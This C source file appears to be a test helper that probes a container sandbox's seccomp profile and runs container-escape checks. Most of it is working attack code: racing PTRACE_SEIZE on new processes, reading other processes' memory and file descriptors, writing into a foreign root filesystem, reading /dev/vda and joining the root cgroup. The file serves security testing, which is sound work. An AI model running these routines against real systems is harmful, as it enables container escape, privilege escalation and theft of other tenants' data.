/*
 * sysprobe: a static helper in the check-vm test images that makes system
 * calls by name and prints how each went, one line each: "NAME: ok" or
 * "NAME: ERRNO" (EPERM, ENOSYS, ...). check-vm runs it inside containers
 * to see what the seccomp profile lets through.
 *
 *   sysprobe unshare-user clone3 keyctl ...
 *
 * Two attacks the checks run as whole commands instead:
 *   sysprobe zombie-leader      a second thread runs on while the main
 *                               thread exits: the process shows as a
 *                               zombie ("Z") with a thread still running
 *   sysprobe reconfigure PATH   makes the proc filesystem mounted at PATH
 *                               (e.g. a sibling's /proc/PID/root/proc)
 *                               show PIDs only: fspick + fsconfig
 *   sysprobe memread-next S     read the pod's next PIDs' memory for S (S's last byte + 1)
 *   sysprobe grab-next          open the pod's next PIDs' roots, mem and fds
 *                               until SIGTERM (check-vm's grab race: see
 *                               grab_next)
 *   sysprobe seize-next         PTRACE_SEIZE the pod's next PIDs until
 *                               SIGTERM (check-vm's seize race: see
 *                               seize_next)
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/personality.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SYS_io_uring_setup
#define SYS_io_uring_setup 425
#endif
#define AT_FDCWD_VALUE (-100)

#ifndef SYS_clone3
#define SYS_clone3 435
#endif

static const char *errname(int e)
{
	static const struct {
		int e;
		const char *name;
	} names[] = {
		{ EPERM, "EPERM" },   { ENOSYS, "ENOSYS" },   { EACCES, "EACCES" },
		{ EINVAL, "EINVAL" }, { ENOMEM, "ENOMEM" },   { EFAULT, "EFAULT" },
		{ EBADF, "EBADF" },   { ENOENT, "ENOENT" },   { EAFNOSUPPORT, "EAFNOSUPPORT" },
		{ EROFS, "EROFS" },   { ENOTSUP, "ENOTSUP" }, { EUSERS, "EUSERS" },
	};
	static char buf[16];
	size_t i;

	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		if (names[i].e == e)
			return names[i].name;
	}
	snprintf(buf, sizeof(buf), "errno %d", e);
	return buf;
}

/* A new process from raw clone()/clone3(): the child exits at once. */
static long reap(long pid)
{
	if (pid == 0)
		_exit(0);
	if (pid > 0)
		waitpid((pid_t)pid, NULL, 0);
	return pid;
}

static long probe(const char *name)
{
	if (strcmp(name, "getpid") == 0)
		return syscall(SYS_getpid);
	if (strcmp(name, "fork") == 0)
		return reap(syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0));
	if (strcmp(name, "socket-inet") == 0)
		return syscall(SYS_socket, AF_INET, SOCK_DGRAM, 0);
	if (strcmp(name, "unshare-user") == 0)
		return syscall(SYS_unshare, CLONE_NEWUSER);
	if (strcmp(name, "clone-newuser") == 0)
		return reap(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
	if (strcmp(name, "clone3") == 0) {
		uint64_t args[11];

		memset(args, 0, sizeof(args));
		args[4] = SIGCHLD; /* exit_signal */
		return reap(syscall(SYS_clone3, args, 64));
	}
	if (strcmp(name, "keyctl") == 0)
		return syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0);
	if (strcmp(name, "kexec_load") == 0)
		return syscall(SYS_kexec_load, 0, 0, NULL, 0);
	if (strcmp(name, "io_uring_setup") == 0) {
		unsigned char params[120];

		memset(params, 0, sizeof(params));
		return syscall(SYS_io_uring_setup, 1, params);
	}
	if (strcmp(name, "socket-vsock") == 0)
		return syscall(SYS_socket, 40 /* AF_VSOCK */, SOCK_STREAM, 0);
	if (strcmp(name, "personality-norandom") == 0)
		return syscall(SYS_personality, ADDR_NO_RANDOMIZE);
	if (strcmp(name, "mount-proc") == 0)
		return syscall(SYS_mount, "proc", "/mnt", "proc", 0, NULL);
	errno = EINVAL;
	return -2;
}

static void *run_on(void *unused)
{
	(void)unused;
	for (;;)
		pause();
	return NULL;
}

/* The main thread exits (SYS_exit ends one thread), the other runs on. */
static int zombie_leader(void)
{
	pthread_t t;

	if (pthread_create(&t, NULL, run_on, NULL) != 0)
		return 1;
	syscall(SYS_exit, 0);
	return 1;
}

/* fspick(AT_FDCWD, path, FSPICK_CLOEXEC) and fsconfig(SET_STRING
 * "subset" "pid", then CMD_RECONFIGURE): the proc filesystem under path
 * then lists PIDs only (no /proc/meminfo), for every mount of it. */
static int reconfigure(const char *path)
{
	long fd = syscall(433, AT_FDCWD_VALUE, path, 1);

	if (fd < 0 || syscall(431, fd, 1, "subset", "pid", 0) < 0 || syscall(431, fd, 7, NULL, NULL, 0) < 0) {
		printf("reconfigure: %s\n", errname(errno));
		return 1;
	}
	printf("reconfigure: ok\n");
	return 0;
}

/* The highest PID the pod's /proc lists. Not ns_last_pid: the VM's kernel
 * has no CONFIG_CHECKPOINT_RESTORE, so there is no such file (session 11's
 * first try of this attack read it, got nothing, and seized PID 0 for its
 * whole run). */
static long last_pid(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	long max = -1, v;

	if (!d)
		return -1;
	while ((e = readdir(d)) != NULL) {
		if (e->d_name[0] >= '0' && e->d_name[0] <= '9' && (v = atol(e->d_name)) > max)
			max = v;
	}
	closedir(d);
	return max;
}

/* /proc/PID/FILE's line starting with KEY, its value; "" if none. */
static void status_field(long pid, const char *key, char *out, size_t cap)
{
	char path[64], buf[4096], *p;
	int fd;
	ssize_t n;

	out[0] = 0;
	snprintf(path, sizeof(path), "/proc/%ld/status", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
	if (fd >= 0)
		close(fd);
	if (n <= 0)
		return;
	buf[n] = 0;
	p = strstr(buf, key);
	if (!p)
		return;
	p += strlen(key);
	while (*p == '\t' || *p == ' ')
		p++;
	snprintf(out, cap, "%.*s", (int)strcspn(p, "\n"), p);
}

static volatile sig_atomic_t seize_stop;

static void on_term(int sig)
{
	(void)sig;
	seize_stop = 1;
}

/*
 * The attack on guest-init's spawning (check-vm's seize race): with
 * CAP_SYS_PTRACE,  PTRACE_SEIZE the pod's next PID over
 * and over (the pod's PIDs count up from the highest it lists), to attach to a process guest-init starts before it has
 * dropped guest-init's privileges. Each process seized is looked at and
 * let go: "held PID CapEff MNT" where MNT says whether its mount namespace
 * is still guest-init's ("guest-init") or a container's ("container"), or
 * "gone" when it ended before it could be looked at,
 * and its capabilities are printed as the kernel shows them. A process
 * with guest-init's mount namespace or more capabilities than this one is
 * root over the VM: its tracer can make it run any code. On SIGTERM:
 * "tries N: ESRCH a, EPERM b, other c, seized d".
 */
static int seize_next(void)
{
	char own_mnt[64], mnt[64], path[64], caps[32], own_caps[32];
	long next, tries = 0, esrch = 0, eperm = 0, other = 0, seized = 0;
	ssize_t n;
	int st;

	signal(SIGTERM, on_term);
	setvbuf(stdout, NULL, _IOLBF, 0);
	n = readlink("/proc/self/ns/mnt", own_mnt, sizeof(own_mnt) - 1);
	own_mnt[n > 0 ? n : 0] = 0;
	status_field(getpid(), "CapEff:", own_caps, sizeof(own_caps));
	next = last_pid() + 1;
	if (next <= 0) {
		printf("cannot list /proc: %s\n", strerror(errno));
		return 1;
	}
	while (!seize_stop) {
		tries++;
		if (ptrace(PTRACE_SEIZE, (pid_t)next, 0, 0) < 0) {
			if (errno == ESRCH)
				esrch++;
			else if (errno == EPERM)
				eperm++;
			else
				other++;
			/* EPERM: traced (guest-init's tracee until its exec):
			 * again, until it is let go. ESRCH: not made yet, or
			 * gone; a newer process listed is the one to try. */
			if (errno == ESRCH && (tries & 15) == 0) {
				long last = last_pid();

				if (last > next)
					next = last;
			}
			continue;
		}
		seized++;
		status_field(next, "CapEff:", caps, sizeof(caps));
		snprintf(path, sizeof(path), "/proc/%ld/ns/mnt", next);
		n = readlink(path, mnt, sizeof(mnt) - 1);
		mnt[n > 0 ? n : 0] = 0;
		printf("held %ld %s %s\n", next, caps[0] ? caps : "-",
		       n <= 0 || !caps[0] ? "gone" : strcmp(mnt, own_mnt) == 0 ? "container" : "guest-init");
		if (ptrace(PTRACE_INTERRUPT, (pid_t)next, 0, 0) == 0 &&
		    waitpid((pid_t)next, &st, __WALL) == (pid_t)next && WIFSTOPPED(st))
			ptrace(PTRACE_DETACH, (pid_t)next, 0, 0);
		next++;
	}
	printf("own CapEff %s; tries %ld: ESRCH %ld, EPERM %ld, other %ld, seized %ld\n", own_caps, tries,
	       esrch, eperm, other, seized);
	return 0;
}

/*
 * check-vm's grab race: each new process of the pod, from its birth, is
 * looked at the ways a container granted CAP_SYS_PTRACE may besides
 * attaching (which guest-init's tracing blocks): /proc/PID/root,
 * /proc/PID/mem, its fds through pidfd_getfd, its capabilities and
 * cgroup. One outside this container's root is "grabbed" (and written
 * into, its /dev/vda read, its root cgroup joined: what the first one
 * found in review could do); one in it, "grabbed" still when it holds
 * more capabilities than this container or an fd of guest-init's, else
 * "as its container". Ends on SIGTERM
 * with "grab: tries N, grabbed G, late L, other O".
 */
static int grab_next(void)
{
	struct stat own, st;
	long next, tries = 0, grabbed = 0, late = 0, other = 0;
	char path[64], caps[32], link[256], fdp[64], names[512], fds[2048], own_caps[32], own_cg[128];
	int fd, pidfd, k, g, w, mem;

	signal(SIGTERM, on_term);
	setvbuf(stdout, NULL, _IOLBF, 0);
	stat("/", &own);
	status_field(getpid(), "CapEff:", own_caps, sizeof(own_caps));
	fd = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
	w = fd >= 0 ? (int)read(fd, own_cg, sizeof(own_cg) - 1) : -1;
	own_cg[w > 0 ? w : 0] = 0;
	if (fd >= 0)
		close(fd);
	next = last_pid() + 1;
	while (!seize_stop) {
		tries++;
		snprintf(path, sizeof(path), "/proc/%ld/root", next);
		fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (fd < 0) {
			if (errno == ENOENT) {
				if ((tries & 15) == 0) {
					long l = last_pid();
					if (l > next)
						next = l;
				}
			} else {
				if (other++ < 5)
					printf("pid %ld root: %s\n", next, strerror(errno));
				next++;
			}
			continue;
		}
		if (fstat(fd, &st) == 0 && st.st_dev == own.st_dev && st.st_ino == own.st_ino) {
			/* In this container's root already: it may still hold
			 * more than the container (capabilities, guest-init's
			 * fds, its cgroup). */
			char cg[128];

			close(fd);
			status_field(next, "CapEff:", caps, sizeof(caps));
			snprintf(path, sizeof(path), "/proc/%ld/cgroup", next);
			g = open(path, O_RDONLY | O_CLOEXEC);
			w = g >= 0 ? (int)read(g, cg, sizeof(cg) - 1) : -1;
			cg[w > 0 ? w : 0] = 0;
			if (g >= 0)
				close(g);
			fds[0] = 0;
			pidfd = syscall(434, (int)next, 0);
			for (k = 0; pidfd >= 0 && k < 48; k++) {
				g = syscall(438, pidfd, k, 0);
				if (g < 0)
					continue;
				snprintf(fdp, sizeof(fdp), "/proc/self/fd/%d", g);
				w = readlink(fdp, link, sizeof(link) - 1);
				link[w > 0 ? w : 0] = 0;
				snprintf(fds + strlen(fds), sizeof(fds) - strlen(fds), " %d=%s", k, link);
				close(g);
			}
			if (pidfd >= 0)
				close(pidfd);
			/* Its cgroup is printed, not judged: guest-init moves it
			 * into the container's while it waits in the tracing stop
			 * it is born in, before its first instruction. */
			if ((caps[0] && strtoull(caps, NULL, 16) & ~strtoull(own_caps, NULL, 16)) ||
			    strstr(fds, "vport") || strstr(fds, "signalfd") ||
			    strstr(fds, "pid:[") || strstr(fds, "mnt:[") || strstr(fds, "cgroup.procs") ||
			    strstr(fds, "event0")) {
				printf("grabbed %ld (in its container's root) CapEff %s cgroup %s its fds:%s\n", next,
				       caps[0] ? caps : "-", cg, fds);
				grabbed++;
			} else {
				if (late++ < 3)
					printf("as its container: %ld CapEff %s cgroup %s fds:%s\n", next,
					       caps[0] ? caps : "-", strcmp(cg, own_cg) == 0 ? "its container's" : cg, fds);
			}
			next++;
			continue;
		}
		status_field(next, "CapEff:", caps, sizeof(caps));
		snprintf(path, sizeof(path), "/proc/%ld/mem", next);
		mem = open(path, O_RDWR | O_CLOEXEC);
		fds[0] = 0;
		pidfd = syscall(434, (int)next, 0);
		for (k = 0; pidfd >= 0 && k < 48; k++) {
			g = syscall(438, pidfd, k, 0);
			if (g < 0)
				continue;
			snprintf(fdp, sizeof(fdp), "/proc/self/fd/%d", g);
			w = readlink(fdp, link, sizeof(link) - 1);
			link[w > 0 ? w : 0] = 0;
			snprintf(fds + strlen(fds), sizeof(fds) - strlen(fds), " %d=%s", k, link);
			close(g);
		}
		if (pidfd >= 0)
			close(pidfd);
		w = openat(fd, "peapod-review-escape", O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0644);
		if (w >= 0) {
			dprintf(w, "written by a container through /proc/%ld/root\n", next);
			close(w);
		}
		names[0] = 0;
		g = openat(fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (g >= 0) {
			DIR *d = fdopendir(g);
			struct dirent *e;

			while (d && (e = readdir(d)) != NULL)
				snprintf(names + strlen(names), sizeof(names) - strlen(names), " %s", e->d_name);
			if (d)
				closedir(d);
		}
		if (grabbed == 0) {
			char blk[64] = "", cgl[128] = "";
			int b = openat(fd, "dev/vda", O_RDONLY | O_CLOEXEC), c;
			ssize_t nb = b >= 0 ? read(b, blk, 16) : -1;

			printf("dev/vda through its root: %s (%zd bytes read)\n", b >= 0 ? "opened" : strerror(errno), nb);
			c = openat(fd, "sys/fs/cgroup/cgroup.procs", O_WRONLY | O_CLOEXEC);
			if (c >= 0 && dprintf(c, "%d\n", (int)getpid()) > 0) {
				int r = open("/proc/self/cgroup", O_RDONLY);
				ssize_t nr = r >= 0 ? read(r, cgl, sizeof(cgl) - 1) : -1;
				cgl[nr > 0 ? nr : 0] = 0;
				printf("moved itself to the root cgroup: /proc/self/cgroup says %s", cgl);
			} else {
				printf("root cgroup.procs: %s\n", strerror(errno));
			}
			if (b >= 0)
				close(b);
			if (c >= 0)
				close(c);
		}
		printf("grabbed %ld CapEff %s mem-rw %s write-in-its-root %s; its root:%s; its fds:%s\n", next,
		       caps[0] ? caps : "-", mem >= 0 ? "yes" : strerror(errno), w >= 0 ? "yes" : "no", names, fds);
		if (mem >= 0)
			close(mem);
		close(fd);
		grabbed++;
		next++;
	}
	printf("grab: tries %ld, grabbed %ld, late %ld, other %ld\n", tries, grabbed, late, other);
	return 0;
}

/*
 * Reads the pod's next processes' writable memory through /proc/PID/mem
 * (before their execve: a copy of guest-init's heap) and looks for arg with
 * its last byte raised by one (so the attacker's own argv, which is in that
 * heap too, does not match). Without CAP_SYS_PTRACE a container's root
 * found another container's environment there (review of 7aa58d0). Prints
 * "memread: tries T, processes read R, found F" once SIGTERM ends it.
 */
static int memread_next(const char *arg)
{
	char needle[128], path[64], line[512], *buf = malloc(1 << 20);
	long next = last_pid() + 1, tries = 0, seen = 0, found = 0;

	snprintf(needle, sizeof(needle), "%s", arg);
	needle[strlen(needle) - 1]++;
	signal(SIGTERM, on_term);
	setvbuf(stdout, NULL, _IOLBF, 0);
	while (!seize_stop && !found) {
		FILE *f;
		int mem;

		tries++;
		snprintf(path, sizeof(path), "/proc/%ld/maps", next);
		f = fopen(path, "r");
		if (!f) {
			if ((tries & 15) == 0 && last_pid() > next)
				next = last_pid();
			continue;
		}
		snprintf(path, sizeof(path), "/proc/%ld/mem", next);
		mem = open(path, O_RDONLY);
		if (mem < 0) {
			fclose(f);
			next++;
			continue;
		}
		seen++;
		while (!found && fgets(line, sizeof(line), f)) {
			unsigned long lo, hi;
			char perm[8];

			if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perm) != 3 || perm[1] != 'w')
				continue;
			for (; lo < hi && !found; lo += 1 << 20) {
				size_t len = hi - lo < (1ul << 20) ? hi - lo : 1ul << 20;
				ssize_t n = pread(mem, buf, len, (off_t)lo);

				if (n > 0 && memmem(buf, (size_t)n, needle, strlen(needle))) {
					printf("pid %ld: found it in %s", next, line);
					found = 1;
				}
			}
		}
		fclose(f);
		close(mem);
		next++;
	}
	printf("memread: tries %ld, processes read %ld, found %ld\n", tries, seen, found);
	while (!seize_stop)
		pause();
	return 0;
}

int main(int argc, char **argv)
{
	int i;

	if (argc == 2 && strcmp(argv[1], "zombie-leader") == 0)
		return zombie_leader();
	if (argc == 3 && strcmp(argv[1], "memread-next") == 0)
		return memread_next(argv[2]);
	if (argc == 2 && strcmp(argv[1], "grab-next") == 0)
		return grab_next();
	if (argc == 2 && strcmp(argv[1], "seize-next") == 0)
		return seize_next();
	if (argc == 3 && strcmp(argv[1], "reconfigure") == 0)
		return reconfigure(argv[2]);

	for (i = 1; i < argc; i++) {
		long r = probe(argv[i]);

		if (r == -2) {
			fprintf(stderr, "sysprobe: unknown probe \"%s\"\n", argv[i]);
			return 2;
		}
		printf("%s: %s\n", argv[i], r < 0 ? errname(errno) : "ok");
	}
	return 0;
}
